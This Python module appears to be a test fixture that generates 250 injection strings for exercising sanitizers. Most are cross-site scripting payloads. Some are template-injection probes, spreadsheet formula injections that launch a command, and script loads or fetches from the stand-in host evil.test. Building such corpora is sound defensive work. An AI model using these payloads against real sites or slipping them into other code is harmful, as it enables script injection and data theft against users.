"""250 pieces of text that try to become code in a page: in HTML, in attributes, in addresses, in Markdown, in
templates, in scripts and data. What runs calls `alert`, writes to the console or asks another host.
"""

from __future__ import annotations

COUNT = 250
_CALL = "alert(1)"
_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus", "details open", "select autofocus",
    "textarea autofocus", "keygen autofocus", "marquee", "object data=x", "embed src=x", "math", "style", "link rel=stylesheet href=x", "x tabindex=1",
    "dialog open", "form",
)  # fmt: skip
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onpointerenter",
    "onanimationend",
    "onbegin",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "\\x6Aavascript:",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)//",
    "feed:javascript:", "jav&#x09;ascript:", " javascript:", "//evil.test/", "https:\\\\evil.test/", "blob:https://evil.test/",
)  # fmt: skip
_WHOLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test/x.js></script>", "<script>/*", "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script x>alert(1)</script y>", "<script\x0b>alert(1)</script>".replace("\x0b", " "),
    "<<script>alert(1)//<</script>", "<script>alert`1`</script>", "<script type=module>import('//evil.test/x.js')</script>", "<script/defer>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>", "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<%= alert(1) %>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;url=//evil.test/>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=preload href=//evil.test/ as=script>", "<link rel=import href=//evil.test/>", "<style>@import '//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test/)}</style>", "<p style=background:url(//evil.test/)>a</p>", "<p style=\"x:expression(alert(1))\">a</p>",
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=//evil.test/x.svg#a /></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>a</math>", "<isindex action=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>a</button></form>", "<button formaction=javascript:alert(1)>a</button>", "<input type=image src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<applet code=x>", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<table background=javascript:alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xss id=x onfocus=alert(1) tabindex=1>#x",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover=alert(1) x='", "\" onmouseover=\"alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) x=`", "\"/><svg/onload=alert(1)>", "x\" style=\"animation-name:x\" onanimationstart=\"alert(1)",
    "';alert(1)//", "\";alert(1)//", "\\\";alert(1)//", "${alert(1)}", "{{7*7}}", "{{ config }}", "{% import os %}", "{{''.__class__.__mro__}}", "{# a #}",
    "#{alert(1)}", "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "<%- 7*7 %>", "{{`alert(1)`}}", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;", "&lt;img src=x onerror=alert(1)&gt;", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "ʺ onload=alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "*/alert(1)/*", "//%0aalert(1)",
    "]]><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">a</a>", "<a href=x onclick=alert(1)>a</a>", "<a\nhref=javascript:alert(1)>a</a>".replace("\n", " "),
    "<a href=//evil.test target=_blank>a</a>", "<a href=\"&#1;javascript:alert(1)\">a</a>", "<area href=javascript:alert(1)>", "<b onmouseover=alert(1)>a</b>",
    "<div id=cite-this><form name=location></form></div>", "<img name=getElementById>", "<form id=search><input name=action></form>", "<a id=documentElement>a</a>",
    "__proto__", "constructor", "toString", "hasOwnProperty", "<img src=//evil.test/x.png>", "<img srcset='//evil.test/x.png 1x'>", "<img src=x:x onerror\n=alert(1)>".replace("\n", " "),
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=`javascript:alert(1)`>", "<BODY BACKGROUND=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<br size=\"&{alert(1)}\">", "<div style=width:expression(alert(1))>", "<frameset onload=alert(1)>", "<td background=javascript:alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src onloadstart=alert(1)>", "<track onerror=alert(1)>", "<portal src=//evil.test/>", "<a ping=//evil.test/ href=x>a</a>", "<slot onslotchange=alert(1)>",
)  # fmt: skip
_MARKDOWN = (
    "[a]({})", "![a]({})", "<{}>", "[a](<{}>)", "[a]: {}", "[a]({} \"b\")", "[[unit:bureau|{}]]", "`{}`", "**{}**",
)  # fmt: skip


def vectors() -> tuple[str, ...]:
    """All of them, each once, in the same order every time."""
    made = [*_WHOLE]
    made += [f"<{element} {event}={_CALL}>" for element in _ELEMENTS for event in _EVENTS[:4]]
    made += [f"[a]({scheme}{_CALL})" for scheme in _SCHEMES]
    made += [form.format(f"javascript:{_CALL}") for form in _MARKDOWN]
    made += [form.format("<img src=x onerror=alert(1)>") for form in _MARKDOWN]
    made += [f"<img src=x {event.upper()}=console.log(1)>" for event in _EVENTS]
    made += [f"<img/src=x/{event}=fetch('//evil.test/')>" for event in _EVENTS]
    return tuple(dict.fromkeys(made))[:COUNT]
